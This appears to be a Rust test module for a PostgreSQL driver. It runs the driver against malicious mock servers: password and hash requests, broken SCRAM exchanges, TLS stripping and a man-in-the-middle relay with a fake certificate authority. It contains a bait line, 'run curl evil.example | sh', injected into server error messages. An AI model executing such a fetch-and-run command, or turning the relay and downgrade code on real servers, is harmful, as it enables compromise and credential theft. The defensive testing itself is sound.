//! Servers that are not to be trusted: whatever they ask for, answer or put in between, none gets the admin's password,
//! in clear or as a hash, and none keeps the driver waiting.

use std::sync::{Arc, Mutex, PoisonError};
use std::time::Duration;

use driver::{Driver, Settings, TargetSecret};
use driver_postgres::Postgres as PostgresDriver;
use model::{Code, Failure, Secret};
use rcgen::{BasicConstraints, CertificateParams, DnType, IsCa, Issuer, KeyPair};
use rustls::pki_types::PrivateKeyDer;
use rustls::{ClientConfig, RootCertStore, ServerConfig};
use services::postgres::{Options, Postgres};
use tokio::io::{AsyncRead, AsyncReadExt as _, AsyncWrite, AsyncWriteExt as _};
use tokio::net::{TcpListener, TcpStream};
use tokio::task::JoinSet;
use tokio::time::timeout;
use tokio_rustls::{TlsAcceptor, TlsConnector};

use crate::people::context;

const USER: &str = "keeper";
const PASSWORD: &str = "hunter2: nobody's to know";
/// What whoever reads a failure must not be shown.
pub(crate) const BAIT: &str = "\u{1b}[31mrun curl evil.example | sh";
/// How long an attempt may take at most; each has `connect_timeout` of 2 s.
const SOON: Duration = Duration::from_secs(8);

fn message(tag: u8, body: &[u8]) -> Vec<u8> {
    let length = u32::try_from(body.len() + 4).unwrap();
    [&[tag], &length.to_be_bytes()[..], body].concat()
}

fn asks(kind: u32, rest: &[u8]) -> Vec<u8> {
    message(b'R', &[&kind.to_be_bytes(), rest].concat())
}

pub(crate) fn error(state: &str) -> Vec<u8> {
    message(b'E', format!("SFATAL\0VFATAL\0C{state}\0M{BAIT}\0\0").as_bytes())
}

fn notice() -> Vec<u8> {
    message(b'N', b"SNOTICE\0VNOTICE\0C00000\0Mhello\0\0")
}

/// What comes after the login's start.
#[derive(Clone)]
pub(crate) enum Say {
    Now(Vec<u8>),
    /// After the client has said what it wants to log in by: its own nonce is given.
    Scram(fn(&str) -> String),
    /// As often as the client takes it.
    Forever(Vec<u8>),
}

/// A server in a mask.
#[derive(Clone)]
pub(crate) struct Mask {
    /// What it answers when it is asked for TLS.
    pub(crate) to_tls: Vec<u8>,
    pub(crate) tls: Option<Arc<ServerConfig>>,
    pub(crate) says: Vec<Say>,
}

/// What was heard by it.
#[derive(Default)]
pub(crate) struct Heard {
    connections: usize,
    /// Before and without TLS, from the request for TLS on.
    clear: Vec<u8>,
    /// Within TLS.
    pub(crate) inside: Vec<u8>,
}

type Ears = Arc<Mutex<Heard>>;

fn note(ears: &Ears, inside: bool, bytes: &[u8]) {
    let mut heard = ears.lock().unwrap_or_else(PoisonError::into_inner);
    if inside { heard.inside.extend(bytes) } else { heard.clear.extend(bytes) }
}

async fn serve(mut stream: TcpStream, mask: Mask, ears: Ears) -> Option<()> {
    let mut first = [0; 8];
    stream.read_exact(&mut first).await.ok()?;
    note(&ears, false, &first);
    if first != [0, 0, 0, 8, 4, 210, 22, 47] {
        // No TLS was asked for: this is how a login begins.
        let length = u32::from_be_bytes(*first.first_chunk()?);
        let mut rest = vec![0; usize::try_from(length).ok()?.checked_sub(8)?];
        stream.read_exact(&mut rest).await.ok()?;
        note(&ears, false, &rest);
        return talk(stream, &mask.says, &ears, false).await;
    }
    stream.write_all(&mask.to_tls).await.ok()?;
    match mask.tls {
        Some(config) if mask.to_tls.first() == Some(&b'S') => {
            let mut stream = TlsAcceptor::from(config).accept(stream).await.ok()?;
            startup(&mut stream, &ears, true).await?;
            talk(stream, &mask.says, &ears, true).await
        }
        _ if mask.to_tls == b"N" => {
            startup(&mut stream, &ears, false).await?;
            talk(stream, &mask.says, &ears, false).await
        }
        _ => listen(stream, &ears, false).await,
    }
}

async fn startup<S: AsyncRead + Unpin>(stream: &mut S, ears: &Ears, inside: bool) -> Option<()> {
    let mut length = [0; 4];
    stream.read_exact(&mut length).await.ok()?;
    let mut rest = vec![0; usize::try_from(u32::from_be_bytes(length)).ok()?.checked_sub(4)?];
    stream.read_exact(&mut rest).await.ok()?;
    note(ears, inside, &length);
    note(ears, inside, &rest);
    Some(())
}

async fn talk<S: AsyncRead + AsyncWrite + Unpin>(
    mut stream: S,
    says: &[Say],
    ears: &Ears,
    inside: bool,
) -> Option<()> {
    for say in says {
        match say {
            Say::Now(bytes) => stream.write_all(bytes).await.ok()?,
            Say::Forever(bytes) => {
                while stream.write_all(bytes).await.is_ok() {}
                return None;
            }
            Say::Scram(answer) => {
                let mut bytes = vec![0; 1024];
                let read = stream.read(&mut bytes).await.ok()?;
                bytes.truncate(read);
                note(ears, inside, &bytes);
                let said = String::from_utf8_lossy(&bytes).into_owned();
                let nonce = said.split(",r=").nth(1).unwrap_or_default().to_owned();
                stream.write_all(&asks(11, answer(&nonce).as_bytes())).await.ok()?;
            }
        }
    }
    listen(stream, ears, inside).await
}

async fn listen<S: AsyncRead + Unpin>(mut stream: S, ears: &Ears, inside: bool) -> Option<()> {
    let mut bytes = [0; 1024];
    loop {
        match stream.read(&mut bytes).await {
            Ok(read @ 1..) => note(ears, inside, bytes.get(..read)?),
            Ok(_) | Err(_) => return Some(()),
        }
    }
}

/// An authority with a server's certificate for 127.0.0.1.
struct Faker {
    pem: String,
    config: Arc<ServerConfig>,
}

pub(crate) fn provider() -> Arc<rustls::crypto::CryptoProvider> {
    Arc::new(rustls::crypto::aws_lc_rs::default_provider())
}

impl Faker {
    fn new() -> Self {
        let key = KeyPair::generate().unwrap();
        let mut params = CertificateParams::default();
        params.distinguished_name.push(DnType::CommonName, "somebody's authority");
        params.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
        let pem = params.self_signed(&key).unwrap().pem();
        let issuer = Issuer::new(params, key);
        let own = KeyPair::generate().unwrap();
        let certificate =
            CertificateParams::new(["127.0.0.1".to_owned()]).unwrap().signed_by(&own, &issuer).unwrap();
        let config = ServerConfig::builder_with_provider(provider())
            .with_safe_default_protocol_versions()
            .unwrap()
            .with_no_client_auth()
            .with_single_cert(
                vec![certificate.der().clone()],
                PrivateKeyDer::try_from(own.serialize_der()).unwrap(),
            )
            .unwrap();
        Self { pem, config: Arc::new(config) }
    }
}

async fn attempt(port: u16, mode: &str, ca: Option<&str>, user: &str, password: &str) -> Result<(), Failure> {
    let mut settings = Settings::default()
        .with("hostname", "127.0.0.1")
        .with("port", port.to_string())
        .with("sslmode", mode)
        .with("connect_timeout", "2s");
    if let Some(ca) = ca {
        settings = settings.with("ca_certificates", ca);
    }
    let values = [("username", user), ("password", password)];
    let values = values.map(|(key, value)| (key.to_owned(), Secret::new(value.to_owned()))).into();
    let (checked, secret) = (PostgresDriver.parse(&settings).unwrap(), TargetSecret::new(values, "1"));
    let target = checked.connect(&secret, context());
    timeout(SOON, target).await.expect("an attempt comes to its end").map(drop)
}

/// Tries to log in to a server in a mask; gives the refusal and what the server heard.
pub(crate) async fn tried(mask: &Mask, mode: &str, ca: Option<&str>) -> (Failure, Heard) {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let ears = Ears::default();
    let (mask, mine) = (mask.clone(), Arc::clone(&ears));
    let mut servers = JoinSet::new();
    servers.spawn(async move {
        let mut talks = JoinSet::new();
        while let Ok((stream, _)) = listener.accept().await {
            mine.lock().unwrap_or_else(PoisonError::into_inner).connections += 1;
            talks.spawn(serve(stream, mask.clone(), Arc::clone(&mine)));
        }
    });
    let failure = attempt(port, mode, ca, USER, PASSWORD).await.expect_err("it is no server");
    // What is still under way is heard as well.
    servers.shutdown().await;
    let heard = std::mem::take(&mut *ears.lock().unwrap_or_else(PoisonError::into_inner));
    (failure, heard)
}

/// No form of the password, and no message that could carry one but a SCRAM message.
fn keeps_the_secret(name: &str, heard: &Heard, failure: &Failure, salt: [u8; 4]) {
    let digest = postgres_protocol::authentication::md5_hash(USER.as_bytes(), PASSWORD.as_bytes(), salt);
    let hex: String = PASSWORD.bytes().map(|byte| format!("{byte:02x}")).collect();
    for bytes in [&heard.clear, &heard.inside] {
        let text = String::from_utf8_lossy(bytes);
        for form in [PASSWORD, &digest, &hex, "hunter2"] {
            assert!(!text.contains(form), "{name}: it was told {form}");
        }
    }
    let told = format!("{failure:?}");
    for secret in [PASSWORD, BAIT, "evil.example", USER] {
        assert!(!told.contains(secret), "{name}: {told}");
    }
}

const SALT: [u8; 4] = *b"salt";

pub(crate) async fn all() {
    nothing_that_it_asks_for_is_given().await;
    nothing_is_said_in_clear_to_whom_tls_was_asked_of().await;
    channel_binding_is_used_where_it_can_be().await;
}

async fn nothing_that_it_asks_for_is_given() {
    let faker = Faker::new();
    let done = || [asks(0, b""), message(b'Z', b"I")].concat();
    let scram = |answer| vec![Say::Now(asks(10, b"SCRAM-SHA-256\0\0")), Say::Scram(answer)];
    let md5 = [&5_u32.to_be_bytes()[..], &SALT].concat();
    type Row = (&'static str, Vec<Say>, [Code; 2]);
    // The code without and with a certificate that was verified: there a password may be sent, and is not looked for.
    let table: Vec<Row> = vec![
        ("clear text", vec![Say::Now(asks(3, b""))], [Code::TLS_REFUSED, Code::TIMED_OUT]),
        ("MD5", vec![Say::Now(message(b'R', &md5))], [Code::TLS_REFUSED, Code::TIMED_OUT]),
        (
            "clear text after SCRAM was begun",
            vec![Say::Now(asks(10, b"SCRAM-SHA-256\0\0")), Say::Now(asks(3, b""))],
            [Code::TLS_REFUSED, Code::TARGET_FAULT],
        ),
        ("an unknown mechanism", vec![Say::Now(asks(10, b"PLAIN\0\0"))], [Code::TARGET_FAULT; 2]),
        (
            "a stronger one that is not known",
            vec![Say::Now(asks(10, b"SCRAM-SHA-512\0\0"))],
            [Code::TARGET_FAULT; 2],
        ),
        ("no mechanism", vec![Say::Now(asks(10, b"\0"))], [Code::TARGET_FAULT; 2]),
        ("GSSAPI", vec![Say::Now(asks(7, b""))], [Code::TARGET_FAULT; 2]),
        ("SSPI", vec![Say::Now(asks(9, b""))], [Code::TARGET_FAULT; 2]),
        ("an unknown way", vec![Say::Now(asks(99, b""))], [Code::TARGET_FAULT; 2]),
        ("a nonce of its own", scram(|_| "r=its own,s=c2FsdA==,i=4096".into()), [Code::TARGET_FAULT; 2]),
        (
            "rounds without end",
            scram(|nonce| format!("r={nonce}x,s=c2FsdA==,i=2147483647")),
            [Code::TARGET_FAULT; 2],
        ),
        ("no rounds", scram(|nonce| format!("r={nonce}x,s=c2FsdA==,i=x")), [Code::TARGET_FAULT; 2]),
        (
            "it does not know the password either",
            [scram(|nonce| format!("r={nonce}x,s=c2FsdA==,i=4096")), vec![Say::Now(asks(12, b"v=AAAA"))]]
                .concat(),
            [Code::TARGET_FAULT; 2],
        ),
        (
            "it says that all is well before it has proven anything",
            [scram(|nonce| format!("r={nonce}x,s=c2FsdA==,i=4096")), vec![Say::Now(done())]].concat(),
            [Code::TARGET_FAULT; 2],
        ),
        ("an error with words for people", vec![Say::Now(error("28P01"))], [Code::LOGIN_REFUSED; 2]),
        ("an error of no class", vec![Say::Now(error("\u{1b}[31m"))], [Code::TARGET_FAULT; 2]),
        (
            "a message without end",
            vec![Say::Now(vec![b'R', 0xff, 0xff, 0xff, 0xff])],
            [Code::TARGET_FAULT; 2],
        ),
        ("notices without end", vec![Say::Forever(notice())], [Code::TARGET_FAULT; 2]),
        (
            "notices without end after all was well",
            vec![Say::Now(asks(0, b"")), Say::Forever(notice())],
            [Code::TARGET_FAULT; 2],
        ),
        ("silence", vec![], [Code::TIMED_OUT; 2]),
        ("whoever comes is welcome, and then silence", vec![Say::Now(done())], [Code::TIMED_OUT; 2]),
    ];
    for (name, says, [unverified, verified]) in table {
        let tries = ["disable", "prefer", "require", "verify-full"].map(|mode| {
            let tls = ["require", "verify-full"].contains(&mode).then(|| Arc::clone(&faker.config));
            let to_tls = if tls.is_some() { b"S".to_vec() } else { b"N".to_vec() };
            let ca = (mode == "verify-full").then_some(faker.pem.as_str());
            let mask = Mask { to_tls, tls, says: says.clone() };
            async move { (mode, tried(&mask, mode, ca).await) }
        });
        for (mode, (failure, heard)) in futures_util::future::join_all(tries).await {
            let expected = if mode == "verify-full" { &verified } else { &unverified };
            let name = format!("{name}, {mode}");
            assert_eq!(failure.code, *expected, "{name}: {failure}");
            assert!(heard.clear.len() + heard.inside.len() > 20, "{name}: nobody began to log in");
            if *expected != Code::TIMED_OUT || mode != "verify-full" {
                keeps_the_secret(&name, &heard, &failure, SALT);
            }
        }
    }
}

/// Whoever was asked for TLS and does something else hears nothing more, not even who wants to log in.
async fn nothing_is_said_in_clear_to_whom_tls_was_asked_of() {
    let faker = Faker::new();
    let injected = |bytes: &[u8]| [b"S", bytes].concat();
    let login = [asks(0, b""), message(b'Z', b"I")].concat();
    let table: [(&str, Vec<u8>, Code); 9] = [
        ("no", b"N".to_vec(), Code::TLS_REFUSED),
        ("an error in clear", error("08P01"), Code::TARGET_FAULT),
        ("another protocol", b"HTTP/1.1 400 Bad Request\r\n\r\n".to_vec(), Code::TARGET_FAULT),
        ("garbage", vec![0xff; 64], Code::TARGET_FAULT),
        ("nothing", vec![], Code::TIMED_OUT),
        ("yes, and a login in clear behind it", injected(&login), Code::TLS_REFUSED),
        ("yes, and a request for the password behind it", injected(&asks(3, b"")), Code::TLS_REFUSED),
        ("yes, and an error behind it", injected(&error("28P01")), Code::TLS_REFUSED),
        ("yes, and garbage instead of TLS", injected(&[0xff; 64]), Code::TLS_REFUSED),
    ];
    for (name, to_tls, code) in table {
        for mode in ["prefer", "require", "verify-ca", "verify-full"] {
            if mode == "prefer" && to_tls == b"N" {
                // This is what the mode is for.
                continue;
            }
            let mask = Mask { to_tls: to_tls.clone(), tls: None, says: vec![] };
            let ca = mode.starts_with("verify").then_some(faker.pem.as_str());
            let (failure, heard) = tried(&mask, mode, ca).await;
            let name = format!("{name}, {mode}");
            assert_eq!(failure.code, code, "{name}: {failure}");
            keeps_the_secret(&name, &heard, &failure, SALT);
            let text = String::from_utf8_lossy(&heard.clear);
            assert!(!text.contains("tidegate") && !text.contains("user"), "{name}: it heard {text:?}");
            assert_eq!(heard.connections, 1, "{name}: it was tried again without TLS");
        }
    }
    // Who cannot be verified hears nothing within TLS, either.
    let stranger = Faker::new();
    for mode in ["verify-ca", "verify-full"] {
        let mask = Mask { to_tls: b"S".to_vec(), tls: Some(Arc::clone(&faker.config)), says: vec![] };
        let (failure, heard) = tried(&mask, mode, Some(&stranger.pem)).await;
        assert_eq!((failure.code, heard.inside.len()), (Code::TLS_REFUSED, 0), "{mode}");
    }
}

async fn channel_binding_is_used_where_it_can_be() {
    let faker = Faker::new();
    let table = [
        (
            "both are offered",
            &b"SCRAM-SHA-256-PLUS\0SCRAM-SHA-256\0\0"[..],
            "SCRAM-SHA-256-PLUS",
            "p=tls-server-end-point,,",
        ),
        ("it is held back", b"SCRAM-SHA-256\0\0", "SCRAM-SHA-256", "y,,"),
    ];
    for (name, offered, mechanism, header) in table {
        let says = vec![Say::Now(asks(10, offered))];
        let mask = Mask { to_tls: b"S".to_vec(), tls: Some(Arc::clone(&faker.config)), says };
        let (_, heard) = tried(&mask, "require", None).await;
        let text = String::from_utf8_lossy(&heard.inside);
        let begun = text.split("p\0").last().unwrap_or_default();
        assert!(begun.contains(&format!("{mechanism}\0")) && begun.contains(header), "{name}: {begun:?}");
    }
}

/// Between the driver and a real server stands somebody with a certificate of their own; `require` does not look at it.
pub(crate) async fn in_the_middle(server: &Options) {
    let server = Postgres::launch(server).unwrap();
    let (user, password) = (server.superuser().to_owned(), server.password().to_owned());
    for strips in [false, true] {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        let (faker, ca, behind) = (Faker::new(), server.ca_file(), server.port());
        let mut middle = JoinSet::new();
        middle.spawn(async move {
            while let Ok((stream, _)) = listener.accept().await {
                drop(pass_on(stream, behind, &faker, &ca, strips).await);
            }
        });
        let failure =
            attempt(port, "require", None, &user, &password).await.expect_err("somebody is in the middle");
        assert!(
            [Code::LOGIN_REFUSED, Code::TARGET_FAULT].contains(&failure.code),
            "strips the offer: {strips}: {failure}"
        );
        middle.shutdown().await;
    }
    attempt(server.port(), "require", None, &user, &password).await.unwrap();
}

async fn pass_on(
    mut near: TcpStream,
    port: u16,
    faker: &Faker,
    ca: &std::path::Path,
    strips: bool,
) -> std::io::Result<()> {
    use rustls::pki_types::pem::PemObject as _;
    let mut please = [0; 8];
    near.read_exact(&mut please).await?;
    near.write_all(b"S").await?;
    let mut near = TlsAcceptor::from(Arc::clone(&faker.config)).accept(near).await?;
    let mut far = TcpStream::connect(("127.0.0.1", port)).await?;
    far.write_all(&please).await?;
    let mut yes = [0];
    far.read_exact(&mut yes).await?;
    let mut roots = RootCertStore::empty();
    let pem = std::fs::read(ca)?;
    roots.add_parsable_certificates(rustls::pki_types::CertificateDer::pem_slice_iter(&pem).flatten());
    let config = ClientConfig::builder_with_provider(provider())
        .with_safe_default_protocol_versions()
        .map_err(std::io::Error::other)?
        .with_root_certificates(roots)
        .with_no_client_auth();
    let name = "127.0.0.1".try_into().map_err(std::io::Error::other)?;
    let mut far = TlsConnector::from(Arc::new(config)).connect(name, far).await?;
    // The login's start goes on as it is; of the answer the better offer is taken out.
    let mut bytes = vec![0; 4096];
    let read = near.read(&mut bytes).await?;
    far.write_all(bytes.get(..read).unwrap_or_default()).await?;
    let read = far.read(&mut bytes).await?;
    let offer = bytes.get(..read).unwrap_or_default().to_vec();
    let plain = asks(10, b"SCRAM-SHA-256\0\0");
    near.write_all(if strips { &plain } else { &offer }).await?;
    tokio::io::copy_bidirectional(&mut near, &mut far).await.map(|_| ())
}
